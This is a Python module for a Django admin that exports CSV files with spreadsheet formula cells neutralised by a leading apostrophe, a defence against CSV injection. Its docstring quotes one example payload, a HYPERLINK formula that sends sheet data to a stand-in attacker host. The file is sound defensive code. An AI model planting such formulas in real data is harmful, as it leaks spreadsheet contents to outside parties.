"""The admin's export format: CSV whose cells a spreadsheet never runs as formulas.

A CSV opened in Excel, LibreOffice or Google Sheets runs a cell that begins with ``=``, ``+``, ``-``
or ``@`` as a formula (and a tab or carriage return before one of them is skipped), so an order whose
customer name is ``=HYPERLINK("https://evil.example/?"&A1, "click")`` would turn the operator's export
into a link that sends the sheet's data away ("CSV injection", OWASP). Every cell that begins with one
of those characters (or a line feed) is exported with a leading apostrophe, the OWASP remedy: the
spreadsheet shows the text as text, and nothing else in the cell changes.

django-import-export's own switch (`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`, django-import-export
4.4) is not enough: it removes one leading ``=`` only, so ``+``, ``-``, ``@`` and ``==1+1`` still
run, and it turns empty cells into the text "None". `FormulaSafeCSV` replaces the library's
`_escape_formulae` with the rule above and applies it on every export, whatever that setting says:
the safety of an export does not depend on a setting someone may leave out.
"""

from __future__ import annotations

from import_export.formats.base_formats import CSV

# What a spreadsheet reads as the start of a formula, with the white space it skips before one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(cell):
    """`cell` as a spreadsheet shows it as text: an apostrophe before a formula start; else as is."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


class FormulaSafeCSV(CSV):
    """CSV (django-import-export's, through tablib) with every cell passed through `neutralise`."""

    def export_data(self, dataset, **kwargs):
        self._escape_formulae(dataset)
        return dataset.export(self.get_title(), **kwargs)

    def _escape_formulae(self, dataset):
        # In place, row by row: no second copy of a large export.
        for index, row in enumerate(dataset):
            if any(isinstance(cell, str) and cell.startswith(FORMULA_STARTS) for cell in row):
                dataset[index] = [neutralise(cell) for cell in row]
